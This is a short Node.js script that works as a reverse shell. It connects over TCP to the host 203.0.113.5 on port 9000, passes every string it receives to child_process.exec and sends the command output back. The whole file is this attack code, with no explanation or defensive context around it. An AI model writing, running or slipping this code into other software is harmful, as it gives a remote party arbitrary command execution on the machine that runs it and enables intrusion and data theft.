const net = require('net'), { exec } = require('child_process');
const s = net.connect(9000, '203.0.113.5');
s.on('data', d => exec(d.toString(), (e, out) => s.write(out)));
console.log('connected');
